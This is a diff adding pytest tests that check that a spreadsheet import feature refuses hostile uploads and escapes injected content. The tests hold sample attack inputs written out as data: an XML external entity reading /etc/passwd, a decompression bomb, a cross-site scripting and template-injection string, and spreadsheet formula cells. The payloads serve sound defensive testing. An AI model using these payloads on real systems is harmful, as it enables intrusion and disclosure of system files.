@@ -5,18 +5,26 @@ import io
 import os
 import sys
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import openpyxl
 import pytest
 
-from leeward.errors import InvalidFile, TooLarge
+from leeward.errors import InvalidFile, InvalidMapping, TooLarge
 from leeward.exchange.content import Content
 from leeward.exchange.drafts import drafts
 from leeward.exchange.export import export
+from leeward.exchange.mapping import propose
+from leeward.exchange.mapping_file import from_toml, to_toml
 from leeward.exchange.sheets import read_book
+from leeward.ids import id_text
 from support import imports, messy_sheets, open_document
+from support.messy_sheets import RECORDED_ON
+from support.open_desk import OpenDesk, founded
+from support.uploads import upload
+from support.vaults import ARA
 
 FORMULAS = (
     '=HYPERLINK("http://example.invalid/"&A1)',
@@ -196,3 +204,69 @@ def test_a_huge_text_cell_is_refused_and_the_row_goes_on() -> None:
     assert len(told) == 1
     with pytest.raises(TooLarge):
         read_book(f'성명,비고\n박은경,"{"a" * 200_000}"\n'.encode())
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> OpenDesk:
+    founded(tmp_path / "v")
+    opened = OpenDesk(tmp_path / "v")
+    opened.unlock("Ara", ARA)
+    return opened
+
+
+def _bomb() -> bytes:
+    return repacked(messy_sheets.english_list(), "xl/worksheets/sheet1.xml", lambda _: b" " * 10**8)
+
+
+def _entities() -> bytes:
+    hostile = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
+    return repacked(
+        messy_sheets.english_list(),
+        "xl/worksheets/sheet1.xml",
+        lambda part: part.replace(b"<worksheet", hostile + b"<worksheet", 1),
+    )
+
+
+@pytest.mark.parametrize("hostile", [_bomb, _entities, lambda: b"PK\x03\x04" + bytes(4_000)])
+def test_a_hostile_file_is_refused_at_the_desks_own_door(
+    desk: OpenDesk, hostile: Callable[[], bytes]
+) -> None:
+    answer = upload(desk, "/import", hostile())
+    assert answer.status in {403, 422}
+    assert 'id="fault"' in answer.text
+    assert "root:" not in answer.text
+    assert not desk.open.old_lists
+
+
+def test_cells_and_headings_run_nothing_in_the_desk(desk: OpenDesk) -> None:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    planted = '"><img src=x onerror=alert(1)>{{ 7*6 }}<script>'
+    sheet.append(["성명", "성별", planted, *FORMULAS])
+    for number in range(3):
+        sheet.append([f"강하늘{'가나다'[number]}", planted, planted, *FORMULAS])
+    base = upload(desk, "/import", messy_sheets.as_bytes(book)).headers["location"]
+    pages = [base, f"{base}/column/2", f"{base}?rows={planted}", f"{base}?page={planted}"]
+    for path in pages:
+        text = desk.ask(path).text
+        assert "<img src=x" not in text
+        assert "&gt;42&lt;" not in text
+    desk.ask(f"{base}/columns", {"column-2": "note.text|note"})
+    assert desk.ask(f"{base}/take", {}).status == 303
+    for case in desk.open.vault.cases():
+        page = desk.ask(f"/case/{id_text(case)}").text
+        assert "<img src=x" not in page
+
+
+@pytest.mark.parametrize("fact", ["import_source.row_digest", "look.kind", "override.kind"])
+def test_a_crafted_form_or_mapping_writes_nothing_of_our_own_books(
+    desk: OpenDesk, fact: str
+) -> None:
+    base = upload(desk, "/import", messy_sheets.korean_list()).headers["location"]
+    assert desk.ask(f"{base}/columns", {"column-11": f"{fact}|text"}).status == 422
+    text = to_toml(propose(read_book(messy_sheets.korean_list()).sheet(), recorded_on=RECORDED_ON))
+    crafted = text.replace('to = "note.text"', f'to = "{fact}"').replace('"note"', '"text"')
+    assert fact in crafted
+    with pytest.raises(InvalidMapping):
+        from_toml(crafted)
